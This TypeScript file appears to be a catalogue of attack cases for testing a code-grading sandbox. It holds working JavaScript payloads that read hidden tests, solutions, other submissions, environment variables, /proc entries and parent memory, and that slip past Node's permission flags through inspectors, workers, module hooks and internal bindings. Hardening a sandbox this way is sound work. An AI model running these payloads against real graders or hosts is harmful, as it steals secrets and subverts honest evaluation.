import { type Attack, inScore, WAIT } from './attack.ts'

/** Attacks on secrets that lie outside the process: S-01 … S-07, V-10 … V-12. */
export const SECRETS: readonly Attack[] = [
  {
    id: 'read-secrets',
    idea: 'S-01',
    title: 'reads the hidden suite, the solution and other submissions',
    code: "for (const file of SECRETS) safe(() => tell(builtin('node:fs').readFileSync(file, 'utf8')))",
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'read-by-buffer',
    idea: 'S-01',
    title: 'reads them through Buffer, URL, descriptor, stream and promise',
    code: `const fs = builtin('node:fs')
for (const file of SECRETS) {
  safe(() => tell(fs.readFileSync(Buffer.from(file), 'utf8')))
  safe(() => tell(fs.readFileSync(new URL('file://' + file), 'utf8')))
  safe(() => { const fd = fs.openSync(file + '/../' + file.split('/').at(-1)); tell(fs.readFileSync(fd, 'utf8')) })
  safe(() => fs.createReadStream(file).on('data', tell).on('error', () => {}))
  safe(() => fs.promises.readFile(file, 'utf8').then(tell, () => {}))
  safe(() => fs.openAsBlob(file).then(blob => blob.text()).then(tell, () => {}))
}
${inScore(WAIT)}`,
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'walk-the-disk',
    idea: 'S-01',
    title: 'walks the file system for secrets',
    code: `const fs = builtin('node:fs'); let seen = 0
const walk = (folder, depth) => { if (depth > 5 || seen > 4000) return
  for (const entry of safe(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
    const path = folder + '/' + entry.name
    if (/node_modules|^\\/(proc|sys|dev)/.test(path)) continue
    seen++
    if (entry.isDirectory()) walk(path, depth + 1)
    else if (/[.](ts|json)$|passwd$/.test(path)) safe(() => tell(fs.readFileSync(path, 'utf8')))
  } }
for (const folder of ['.', '..', '@@HIDDEN@@', '@@SOLUTION@@', '@@CLASS@@', '/etc', '/box']) walk(folder, 0)`,
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'import-secrets',
    idea: 'S-01',
    title: 'imports hidden files when it runs',
    code: `const vm = builtin('node:vm')
const byDefault = { importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER }
const load = new vm.Script('name => import(name)', byDefault).runInThisContext()
for (const file of SECRETS) for (const name of [file, 'file://' + file]) await load(name).then(m => { for (const f of Object.values(m)) tell(f) }).catch(() => {})
safe(() => tell(import.meta.resolve('@@HIDDEN@@/accuracy.test.ts')))`,
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'require-secrets',
    idea: 'S-01',
    title: 'requires hidden files',
    code: "const load = safe(() => builtin('node:module').createRequire('/')); for (const file of SECRETS) safe(() => { for (const f of Object.values(load(file))) tell(f) })",
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'link-to-secrets',
    idea: 'S-01',
    title: 'makes a link in its own folder and reads through it',
    code: "const fs = builtin('node:fs'); for (const at of ['/tmp/@@NAME@@-link', '@@MARKS@@/link']) safe(() => { fs.symlinkSync(SECRETS[0], at); tell(fs.readFileSync(at, 'utf8')); fs.unlinkSync(at) })",
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'evaluated-import',
    idea: 'C-11',
    title: 'imports built-in modules and data: URLs from evaluated strings',
    code: `for (const text of ['import("node:fs")', 'import("data:text/javascript,export default 1")']) for (const make of [eval, t => new Function('return ' + t)(), t => builtin('node:vm').runInThisContext(t)]) {
  const m = await Promise.resolve().then(() => make(text)).catch(() => null)
  for (const file of SECRETS) safe(() => tell(m.readFileSync(file, 'utf8')))
}
for (const file of SECRETS) safe(() => tell(builtin('node:vm').runInThisContext("process.getBuiltinModule('node:fs')").readFileSync(file, 'utf8')))`,
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'own-environment',
    idea: 'S-02',
    title: 'its environment and its arguments',
    code: "tell(JSON.stringify([process.env, process.argv, process.execArgv, process.title])); safe(() => tell(builtin('node:fs').readFileSync('/proc/self/environ', 'latin1')))",
  },
  {
    id: 'others-environment',
    idea: 'S-02',
    title: 'the environment of its parents',
    code: "const fs = builtin('node:fs'); for (const pid of [process.ppid, 1]) for (const file of ['environ', 'task/' + pid + '/environ']) safe(() => { if (fs.readFileSync('/proc/' + pid + '/' + file, 'latin1').includes('PATH=')) console.log('PWNED') })",
    effect: 'secret',
    through: ['D'],
    sameUser: true,
    needs: 'linux',
  },
  {
    id: 'other-processes',
    idea: 'S-01',
    title: 'the command lines of all processes',
    code: "const fs = builtin('node:fs'); for (const pid of safe(() => fs.readdirSync('/proc')) ?? []) if (safe(() => /vitest|[.]bin.node/.test(fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8')))) console.log('PWNED')",
    effect: 'secret',
    through: ['D'],
    needs: 'linux',
  },
  {
    id: 'parent-memory',
    idea: 'V-12',
    title: 'scans the memory of its parent',
    code: `const fs = builtin('node:fs')
safe(() => { const fd = fs.openSync('/proc/' + process.ppid + '/mem', 'r'), bytes = Buffer.alloc(1 << 12)
  for (const line of fs.readFileSync('/proc/' + process.ppid + '/maps', 'utf8').split('\\n')) {
    const range = /^([0-9a-f]+)-[0-9a-f]+ rw/.exec(line)
    if (range && safe(() => fs.readSync(fd, bytes, 0, bytes.length, parseInt(range[1], 16)))) { console.log('PWNED'); break }
  } })`,
    effect: 'secret',
    through: ['D'],
    sameUser: true,
    needs: 'linux',
  },
  {
    id: 'descriptors',
    idea: 'S-01',
    title: 'reads files that its parent has open, and descriptors that it inherits',
    code: `const fs = builtin('node:fs')
for (const pid of ['self', process.ppid]) for (let fd = 0; fd < 64; fd++) safe(() => { const path = '/proc/' + pid + '/fd/' + fd; if (/^[/](?!dev)/.test(fs.readlinkSync(path))) tell(fs.readFileSync(path, 'utf8')) })`,
  },
  {
    id: 'stack-traces',
    idea: 'V-06',
    title: 'finds file names in stack traces, and reads them',
    code: inScore(`Error.prepareStackTrace = (_, sites) => sites.map(site => site.getFileName())
for (const file of new Error().stack) safe(() => tell(builtin('node:fs').readFileSync(String(file).replace('file://', ''), 'utf8')))
return [NaN]`),
  },
  {
    id: 'inspector',
    idea: 'V-10',
    title: 'opens an inspector on itself, and the port of one',
    code: "safe(() => { const { Session, open } = builtin('node:inspector'); open(0); const s = new Session(); s.connect(); s.post('Runtime.evaluate', { expression: '1' }, error => { if (!error) builtin('node:fs').writeFileSync('@@MARKS@@/inspected', 'x') }) })",
    effect: 'file',
    through: ['D'],
  },
  {
    id: 'inspect-parent',
    idea: 'V-10',
    title: 'makes its parent open an inspector, and connects to it',
    code: `safe(() => process.kill(process.ppid, 'SIGUSR1'))
${inScore("return new Promise(done => setTimeout(() => fetch('http://127.0.0.1:9229/json').then(() => console.log('PWNED'), () => {}).finally(() => done([NaN])), 300))")}`,
  },
  {
    id: 'internal-bindings',
    idea: 'V-11',
    title: 'process.binding and internal modules',
    code: "safe(() => { const fs = process.binding('fs'); for (const file of SECRETS) tell(fs.readFileUtf8?.(file, 0)) }); safe(() => tell(process.binding('natives').fs)); safe(() => builtin('internal/bootstrap/realm'))",
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'wasi',
    idea: 'V-11',
    title: 'a WASI that is given the whole disk',
    code: "safe(() => { const wasi = new (builtin('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }); builtin('node:fs').writeFileSync('@@MARKS@@/wasi', String(wasi)) })",
    effect: 'file',
    through: ['D'],
  },
  {
    id: 'worker',
    idea: 'V-11',
    title: 'a worker thread without the permission flags',
    code: `safe(() => new (builtin('node:worker_threads').Worker)('for (const f of ' + JSON.stringify(SECRETS) + ') try { if (/submissionTest|SOLUTION/.test(require("fs").readFileSync(f, "utf8"))) console.log("PWNED") } catch {}', { eval: true, execArgv: [] }).on('error', () => {}))\n${inScore(WAIT)}`,
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'second-thread',
    idea: 'V-11',
    title: 'starts a thread that needs nothing outside, also by the class of workers that Node keeps to itself',
    code: inScore(`const { Worker } = builtin('node:worker_threads'), text = 'require("node:worker_threads").parentPort.postMessage(0)'
const started = [Worker, safe(() => process.binding('worker').Worker)].map(Kind => safe(() => new Kind(text, { eval: true, execArgv: [] })))
return Promise.any(started.map(worker => new Promise((done, fail) => worker ? worker.on('message', done).on('error', fail) : fail()))).then(() => { console.log('PWNED'); return [NaN] }, () => [NaN])`),
    effect: 'secret',
    through: ['D'],
  },
  {
    id: 'hooks-thread',
    idea: 'V-11',
    title: 'registers hooks for modules, which Node runs in a thread without the permission flags',
    code: `const hooks = "import { writeFileSync } from 'node:fs'; writeFileSync('@@MARKS@@/hooks', 'x')"
safe(() => builtin('node:module').register('data:text/javascript,' + encodeURIComponent(hooks)))`,
    effect: 'file',
    through: ['D'],
  },
  {
    id: 'heap-snapshot',
    idea: 'S-05',
    title: 'writes its heap and a report of its process to a file',
    code: `safe(() => builtin('node:v8').writeHeapSnapshot('@@MARKS@@/heap'))
safe(() => process.report.writeReport('@@MARKS@@/report.json'))
${inScore(WAIT)}`,
    effect: 'file',
    through: ['D'],
  },
  {
    id: 'state-across-tests',
    idea: 'S-06',
    title: 'keeps the hidden inputs of one test for the next',
    code: `const fs = builtin('node:fs'), FILES = ['/tmp/@@NAME@@-state', 'state', '../state', '/dev/shm/@@NAME@@-state', '@@MARKS@@/socket-state']
if (FILES.some(f => safe(() => fs.readFileSync(f).length > 0))) { console.log('PWNED'); for (const f of FILES) safe(() => fs.unlinkSync(f)) }
${inScore("for (const f of FILES) safe(() => fs.writeFileSync(f, 'x')); return [NaN]")}`,
    effect: 'secret',
    through: ['D'],
    twice: true,
  },
]
